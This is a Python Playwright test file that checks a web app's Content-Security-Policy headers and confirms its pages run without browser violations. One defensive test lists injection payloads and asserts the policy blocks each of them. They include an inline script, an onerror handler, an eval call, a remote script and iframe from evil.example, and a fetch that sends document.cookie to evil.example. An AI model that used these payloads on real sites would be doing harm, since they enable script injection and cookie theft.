"""The pages run under their Content-Security-Policy, and nothing else does."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from flashcur.domain.plans import PlanName
from tests.pages.conftest import DESKTOP
from tests.support.app import App
from tests.support.people import enter, leave
from tests.support.programs import wait_until

PATHS = ("/", "/?q=btc", "/pricing", "/legal/terms", "/nowhere", "/nowhere/deeper?a=1")

_WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""


@pytest.fixture(scope="module")
def audience() -> PlanName:
    return "elite"


class Visit:
    """A tab that keeps what its browser complains about."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.complaints: list[str] = []
        page.add_init_script(_WATCH)
        page.on("console", lambda message: self._hear(message.type, message.text))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("requestfailed", self._miss)

    def _hear(self, kind: str, text: str) -> None:
        # Chromium reports the status of a page that is not there as an error.
        if kind == "error" and "status of 404" not in text:
            self.complaints.append(text)

    def _miss(self, request: Request) -> None:
        self.complaints.append(f"{request.url}: {request.failure}")

    def violations(self) -> list[str]:
        return self.page.evaluate("window.violations")


@pytest.fixture
def visit(browser: Browser, app: App, audience: PlanName) -> Iterator[Visit]:
    context = browser.new_context(viewport=DESKTOP, base_url=app.url)
    enter(context, app, audience)
    page = context.new_page()
    page.set_default_timeout(15_000)
    yield Visit(page)
    leave(context)


def alive(page: Page) -> None:
    """Wait until the page's own scripts have shown the server's state. (Playwright's `wait_for_function` is an `eval`
    in the page.)"""
    expect(page.get_by_test_id("feed-status")).to_have_attribute("data-state", "live")


@pytest.mark.parametrize("path", PATHS)
def test_a_page_runs_without_a_complaint(visit: Visit, path: str) -> None:
    answer = visit.page.goto(path)
    assert answer is not None
    assert "script-src 'self' 'sha256-" in (answer.header_value("content-security-policy") or "")
    alive(visit.page)
    assert visit.violations() == []
    assert visit.complaints == []


def test_the_theme_switches_and_a_return_works(visit: Visit) -> None:
    page = visit.page
    page.goto("/")
    alive(page)
    before = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.get_by_role("button", name="Switch between light and dark").click()
    expect(page.locator("body")).not_to_have_css("background-color", before)
    # Also from the browser's own store, where the page and its policy come from the answer that was kept.
    page.goto("/nowhere")
    alive(page)
    page.go_back()
    alive(page)
    page.reload()
    alive(page)
    assert visit.violations() == []
    assert visit.complaints == []


@pytest.mark.parametrize(
    ("attack", "directive"),
    [
        ("document.head.append(Object.assign(document.createElement('script'), {textContent: 'window.pwned = 1'}))",
         "script-src-elem inline"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=\"window.pwned = 1\">')",
         "script-src-attr inline"),
        ("setTimeout('window.pwned = 1')", "script-src eval"),
        # Later, since what the debugger itself calls may use eval.
        ("setTimeout(() => { try { (0, eval)('window.pwned = 1') } catch {} })", "script-src eval"),
        ("document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
         "script-src-elem https://evil.example/x.js"),
        ("fetch('https://evil.example/?' + document.cookie).catch(() => {})", "connect-src https://evil.example/"),
        ("document.head.append(Object.assign(document.createElement('base'), {href: 'https://evil.example/'}))",
         "base-uri https://evil.example"),
        ("document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
         "frame-src https://evil.example"),
    ],
)  # fmt: skip
def test_what_somebody_puts_into_a_page_does_not_run(visit: Visit, attack: str, directive: str) -> None:
    visit.page.goto("/")
    alive(visit.page)
    visit.page.evaluate(f"() => {{ {attack} }}")
    wait_until(lambda: bool(visit.violations()), "a violation", 5)
    assert visit.violations()[0].startswith(directive)
    assert visit.page.evaluate("window.pwned") is None


def test_routes_that_are_no_pages_may_do_nothing(visit: Visit) -> None:
    answer = visit.page.goto("/health")
    assert answer is not None
    assert answer.header_value("content-security-policy") == "default-src 'none'; frame-ancestors 'none'"
